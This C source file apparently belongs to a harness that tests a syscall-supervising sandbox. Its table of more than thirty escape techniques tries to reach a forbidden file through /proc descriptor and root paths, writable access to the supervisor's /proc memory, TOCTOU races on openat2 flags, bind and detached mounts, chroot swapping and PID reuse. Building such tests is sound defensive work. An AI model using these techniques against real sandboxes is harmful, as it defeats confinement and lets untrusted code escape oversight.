/* What has one form only: spellings of one object, supervisors' own entries in /proc, namespaces, ids used again. */
#include "attack.h"
#include <linux/sched.h>
#include <sys/mount.h>

static unsigned turn;

/* any makes the calls of the table in turn that follow what they are given. */
static long any(int dirfd, const char *path, unsigned like)
{
	if (refused)
		return -EACCES;
	for (int i = 0; i < ncalls; i++) {
		const struct call *call = &calls[turn++ % ncalls];
		if ((call->like & like) != like || call->like & HANDLE || strcmp(call->leaf, "secret") != 0)
			continue;
		long r = call->make(dirfd, path);
		if (r == WON)
			winner = call->name;
		return r;
	}
	return 0;
}

static long through(const char *format, int id)
{
	char path[5000];
	snprintf(path, sizeof path, format, id, root);
	return any(AT_FDCWD, path, FOLLOW);
}

static void enter(const struct call *call)
{
	if (chdir(root) < 0)
		die("enter the tree");
}

static long self_fd(const struct call *c) { return through("/proc/self/fd/4", 0); }
static long self_fd_below(const struct call *c) { return through("/proc/self/fd/3/secret", 0); }
static long thread_fd(const struct call *c) { return through("/proc/thread-self/fd/4", 0); }
static long pid_fd(const struct call *c) { return through("/proc/%d/fd/4", getpid()); }
static long dev_fd(const struct call *c) { return through("/dev/fd/4", 0); }
static long self_root(const struct call *c) { return through("/proc/self/root%2$s/forbid/secret", 0); }
static long self_cwd(const struct call *c) { return through("/proc/self/cwd/forbid/secret", 0); }
static long task_root(const struct call *c) { return through("/proc/%1$d/task/%1$d/root%2$s/forbid/secret", getpid()); }
static long supervisor_root(const struct call *c) { return through("/proc/%1$d/root%2$s/forbid/secret", supervisor); }
static long supervisor_cwd(const struct call *c) { return through("/proc/%d/cwd/forbid/secret", supervisor); }
static long supervisor_task(const struct call *c) { return through("/proc/%1$d/task/%1$d/root%2$s/forbid/secret", supervisor); }
static long init_root(const struct call *c) { return through("/proc/1/root%2$s/forbid/secret", 0); }
static long chain(const struct call *c) { return through("%2$s/permit/chain", 0); }
static long parents(const struct call *c) { return through("%2$s/permit/../swing/..//./forbid/./secret", 0); }
static void enter_forbidden(const struct call *call)
{
	if (fchdir(FORBIDDEN_DIR) < 0)
		die("enter the forbidden directory");
}

static long inside(const struct call *c) { return any(AT_FDCWD, "secret", 0); }
static long inherited(const struct call *c) { return any(FORBIDDEN_DIR, "secret", AT); }

/* The supervisor's descriptors, some of which hold the forbidden object while a call on it is refused. */
static void *keep_refused(void *arg)
{
	for (;;) {
		int fd = syscall(SYS_openat, AT_FDCWD, at("forbid/secret"), O_RDONLY);
		if (fd >= 0)
			close(fd);
	}
	return arg;
}

static long supervisor_fds(const struct call *c)
{
	char path[64];
	snprintf(path, sizeof path, "/proc/%d/fd/%u", supervisor, 3 + turn++ % 40);
	return opened(syscall(SYS_openat, AT_FDCWD, path, O_RDONLY | O_NONBLOCK | O_NOCTTY));
}

/* Who writes to the supervisor's memory decides. */
static long memory(int dirfd, const char *format, int id)
{
	char path[128];
	if (refused)
		return -EACCES;
	snprintf(path, sizeof path, format, id);
	int fd = syscall(SYS_openat, dirfd, path, O_RDWR);
	if (fd < 0)
		return -errno;
	close(fd);
	return WON;
}

static long supervisor_memory(const struct call *c)
{
	static const char *const forms[] = {"/proc/%1$d/mem", "/proc/%1$d/task/%1$d/mem", "/proc/self/../%1$d/mem", "/proc/self/task/../../%1$d/mem"};
	return memory(AT_FDCWD, forms[turn++ % 4], supervisor);
}

/* thread_of_supervisor looks for one: ids of the time when it started. */
static pid_t thread_of_supervisor(void)
{
	for (int i = 0; i < 256; i++) {
		pid_t id = supervisor + 1 + turn++ % 256;
		if (syscall(SYS_tgkill, supervisor, id, 0) == 0)
			return id;
	}
	return supervisor;
}

static long thread_memory(const struct call *c) { return memory(AT_FDCWD, "/proc/%d/mem", thread_of_supervisor()); }

static long memory_below(const struct call *c)
{
	char path[64];
	snprintf(path, sizeof path, turn++ % 2 ? "/proc/%1$d" : "/proc/%1$d/task/%1$d", supervisor);
	int fd = syscall(SYS_openat, AT_FDCWD, path, O_PATH | O_DIRECTORY);
	long r = memory(fd, "mem", 0);
	close(fd);
	return r;
}

static long memory_here(const struct call *c)
{
	char path[64];
	snprintf(path, sizeof path, "/proc/%d", supervisor);
	return chdir(path) < 0 ? -errno : memory(AT_FDCWD, "mem", 0);
}

static long memory_linked(const struct call *c)
{
	char path[64];
	snprintf(path, sizeof path, "/proc/%d", supervisor);
	syscall(SYS_symlinkat, path, AT_FDCWD, at("loot"));
	return memory(AT_FDCWD, at("loot/mem"), 0);
}

/* What acts on a descriptor is given as a path that is empty. */
static long empty_path(const struct call *c)
{
	switch (turn++ % 4) {
	case 0:
		return outcome(syscall(SYS_fchownat, SECRET, "", getuid(), getgid(), AT_EMPTY_PATH));
	case 1:
		return outcome(syscall(SYS_linkat, SECRET, "", AT_FDCWD, at("loot"), AT_EMPTY_PATH));
	case 2:
		return outcome(syscall(SYS_utimensat, SECRET, "", NULL, AT_EMPTY_PATH));
	}
	return outcome(syscall(452 /* fchmodat2 */, SECRET, "", 0666, AT_EMPTY_PATH));
}

/* A descriptor that can only be looked at. */
static long supervisor_path(const struct call *c)
{
	char path[5000];
	snprintf(path, sizeof path, "/proc/%d/root%s/forbid/secret", supervisor, root);
	return opened(syscall(SYS_openat, AT_FDCWD, path, O_PATH));
}

/* A name made before the program ran: to a policy of names it is another file. */
static long linked(const struct call *c) { return through("%2$s/permit/hard", 0); }

/* openat2's flags are in memory; a file that may be read only is opened for writing. */
static volatile struct { uint64_t flags, mode, resolve; } how;

static void *flip_flags(void *arg)
{
	for (unsigned n = 0;; n++) {
		how.flags = n & 1 ? O_RDWR : O_RDONLY;
		for (volatile unsigned i = 0; i < n % 61; i++)
			;
	}
	return arg;
}

static long open_for_writing(const struct call *c)
{
	int fd = syscall(SYS_openat2, AT_FDCWD, at("readonly/file"), &how, sizeof how);
	if (fd < 0)
		return -errno;
	long r = (fcntl(fd, F_GETFL) & O_ACCMODE) != O_RDONLY ? WON : 0;
	close(fd);
	return r;
}

/* The directory above the forbidden one gets another name. */
static long ancestor(const struct call *c)
{
	if (syscall(SYS_renameat2, AT_FDCWD, at("vault"), AT_FDCWD, at("moved"), 0) < 0)
		return -errno;
	long r = opened(syscall(SYS_openat, AT_FDCWD, at("moved/forbid/secret"), O_RDONLY));
	syscall(SYS_renameat2, AT_FDCWD, at("moved"), AT_FDCWD, at("vault"), 0);
	return r;
}

static void write_file(const char *path, const char *text)
{
	int fd = open(path, O_WRONLY);
	if (fd < 0 || write(fd, text, strlen(text)) < 0)
		refused = 1;
	close(fd);
}

/* own_namespaces makes this process the root of a user namespace. */
static void own_namespaces(int also)
{
	char map[64];
	unsigned uid = getuid(), gid = getgid();
	if (unshare(CLONE_NEWUSER | also) < 0) {
		fprintf(stderr, "unsupported: unshare: %s\n", strerror(errno));
		exit(5);
	}
	write_file("/proc/self/setgroups", "deny");
	snprintf(map, sizeof map, "0 %u 1", uid);
	write_file("/proc/self/uid_map", map);
	snprintf(map, sizeof map, "0 %u 1", gid);
	write_file("/proc/self/gid_map", map);
}

static void bind(const char *from, const char *to)
{
	refused |= mount(from, to, NULL, MS_BIND | MS_REC, NULL) < 0;
}

static void prepare_bind(const struct call *c)
{
	own_namespaces(CLONE_NEWNS);
	bind(root, at("mnt"));
}

static long bound(const struct call *c) { return through("%2$s/mnt/forbid/secret", 0); }

/* A tree of mounts that is mounted nowhere. */
static int detached = -1;

static void prepare_detached(const struct call *c)
{
	own_namespaces(CLONE_NEWNS);
	detached = syscall(SYS_open_tree, AT_FDCWD, root, 1 /* OPEN_TREE_CLONE */);
	refused |= detached < 0;
}

static long below_detached(const struct call *c) { return any(detached, "forbid/secret", AT); }

static void prepare_bind_proc(const struct call *c)
{
	if (unshare(CLONE_NEWNS) == 0 && mount(NULL, "/", NULL, MS_REC | MS_PRIVATE, NULL) == 0)
		bind("/proc", at("mnt"));
	else
		refused = 1;
}

static long memory_bound(const struct call *c) { return memory(AT_FDCWD, at("mnt/%d/mem"), supervisor); }

static void prepare_bind_file(const struct call *c)
{
	own_namespaces(CLONE_NEWNS);
	bind(at("forbid"), at("mnt"));
}

static void *bind_and_unbind(void *arg)
{
	for (;;) {
		umount2(at("mnt"), MNT_DETACH);
		mount(at("forbid"), at("mnt"), NULL, MS_BIND, NULL);
	}
	return arg;
}

static long bound_file(const struct call *c) { return through("%2$s/mnt/secret", 0); }

static void prepare_chroot(const struct call *c)
{
	own_namespaces(0);
	refused |= chroot(root) < 0 || chdir("/") < 0;
}

static long from_root(const struct call *c) { return any(AT_FDCWD, "/forbid/secret", FOLLOW); }

static int roots[2];

static void open_roots(const struct call *c)
{
	roots[0] = open(at("swing"), O_RDONLY | O_DIRECTORY);
	roots[1] = open(root, O_RDONLY | O_DIRECTORY);
	if (roots[0] < 0 || roots[1] < 0)
		die("open the roots");
}

static void prepare_roots(const struct call *c)
{
	own_namespaces(0);
	if (!refused)
		open_roots(c);
}

static void *swap_roots(void *arg)
{
	for (unsigned n = 0;; n++) {
		fchdir(roots[n & 1]);
		chroot(".");
	}
	return arg;
}

/* A call whose maker is killed, and another process in its place, with its id, that stands elsewhere. */
static pid_t same_id(pid_t id)
{
	struct clone_args args = {.exit_signal = SIGCHLD, .set_tid = (uintptr_t)&id, .set_tid_size = 1};
	return syscall(SYS_clone3, &args, sizeof args);
}

static void nap(unsigned microseconds)
{
	struct timespec t = {0, microseconds * 1000L};
	clock_nanosleep(CLOCK_MONOTONIC, 0, &t, NULL);
}

static long id_again(const struct call *c)
{
	static pid_t id;
	if (id == 0)
		id = getpid() + 1000 + turn % 1000;
	pid_t first = same_id(id);
	if (first < 0) {
		id = 0, turn++;
		return -errno;
	}
	if (first == 0) {
		fchdir(roots[0]);
		syscall(SYS_mkdirat, AT_FDCWD, "forbid/new", 0700);
		_exit(0);
	}
	nap(turn++ % 120);
	kill(first, SIGKILL);
	waitpid(first, NULL, 0);
	pid_t second = same_id(id);
	if (second == 0) {
		fchdir(roots[1]);
		nap(200);
		_exit(0);
	}
	if (second > 0)
		waitpid(second, NULL, 0);
	syscall(SYS_unlinkat, roots[0], "forbid/new", AT_REMOVEDIR);
	return 0;
}

const struct trick specials[] = {
	{"self-fd", TRICK, 0, NULL, NULL, self_fd},
	{"self-fd-below", TRICK, 0, NULL, NULL, self_fd_below},
	{"thread-self-fd", TRICK, 0, NULL, NULL, thread_fd},
	{"pid-fd", TRICK, 0, NULL, NULL, pid_fd},
	{"dev-fd", TRICK, 0, NULL, NULL, dev_fd},
	{"self-root", TRICK, 0, NULL, NULL, self_root},
	{"self-cwd", TRICK, 0, enter, NULL, self_cwd},
	{"task-root", TRICK, 0, NULL, NULL, task_root},
	{"supervisor-root", TRICK, 0, NULL, NULL, supervisor_root},
	{"supervisor-cwd", TRICK, 0, NULL, NULL, supervisor_cwd},
	{"supervisor-task", TRICK, 0, NULL, NULL, supervisor_task},
	{"init-root", ROOT, 0, NULL, NULL, init_root},
	{"link-chain", TRICK, 0, NULL, NULL, chain},
	{"parents", TRICK, 0, NULL, NULL, parents},
	{"inherited-descriptor", TRICK, 0, NULL, NULL, inherited},
	{"inside", TRICK, 0, enter_forbidden, NULL, inside},
	{"empty-path", TRICK, 0, NULL, NULL, empty_path},
	{"supervisor-descriptors", TRICK, 0, NULL, keep_refused, supervisor_fds},
	{"supervisor-memory", TRICK, 0, NULL, NULL, supervisor_memory},
	{"supervisor-memory-thread", TRICK, 0, NULL, NULL, thread_memory},
	{"supervisor-memory-below", TRICK, 0, NULL, NULL, memory_below},
	{"supervisor-memory-here", TRICK, 0, NULL, NULL, memory_here},
	{"supervisor-memory-linked", TRICK, 0, NULL, NULL, memory_linked},
	{"supervisor-memory-bound", TRICK | ROOT, 0, prepare_bind_proc, NULL, memory_bound},
	{"supervisor-path", TRICK, 0, NULL, NULL, supervisor_path},
	{"hard-link-beforehand", TRICK, 0, NULL, NULL, linked},
	{"open-flags", RACE, 0, NULL, flip_flags, open_for_writing},
	{"ancestor", TRICK, 0, NULL, NULL, ancestor},
	{"bind", TRICK, 0, prepare_bind, NULL, bound},
	{"detached", TRICK, 0, prepare_detached, NULL, below_detached},
	{"bind-flip", TRICK, 0, prepare_bind_file, bind_and_unbind, bound_file},
	{"chroot", TRICK, 0, prepare_chroot, NULL, from_root},
	{"chroot-flip", TRICK, 0, prepare_roots, swap_roots, from_root},
	{"id-reuse", ROOT, 0, open_roots, NULL, id_again},
};
const int nspecials = sizeof specials / sizeof *specials;
